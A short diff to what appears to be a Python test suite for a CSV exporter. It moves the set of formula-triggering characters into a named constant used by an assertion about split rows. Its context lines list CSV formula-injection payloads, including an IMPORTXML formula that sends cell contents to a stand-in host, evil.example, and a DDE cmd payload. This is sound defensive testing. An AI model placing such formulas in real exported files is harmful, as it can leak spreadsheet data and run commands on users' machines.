@@ -32,6 +32,7 @@ PAYLOADS = [
     "=IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")",
     "%0A-3+3+cmd|' /C calc'!D2",
 ]  # fmt: skip
+RUNS = set("=+-@\uff1d\uff0b\uff0d\uff20\u2212")
 ACTS = "=+-@\uff1d\uff0b\uff0d\uff20\u2212\t\r\n"
 
 
@@ -47,7 +48,7 @@ def test_no_piece_of_a_row_begins_with_it_either_wherever_it_is_split(payload, s
     made = csv_of(["a", "b"], [[f"x{separator}{payload}", payload]], language).decode()
     for cut in (",", ";", "\t"):
         for row in csv.reader(io.StringIO(made.removeprefix(BOM), newline=""), delimiter=cut):
-            assert [piece for piece in row if piece.strip(" \u200b\ufeff\"")[:1] in set("=+-@\uff1d\uff0b\uff0d\uff20\u2212")] == []
+            assert [piece for piece in row if piece.strip(" \u200b\ufeff\"")[:1] in RUNS] == []
 
 
 def test_what_we_counted_ourselves_stays_a_number_and_a_date_a_date():
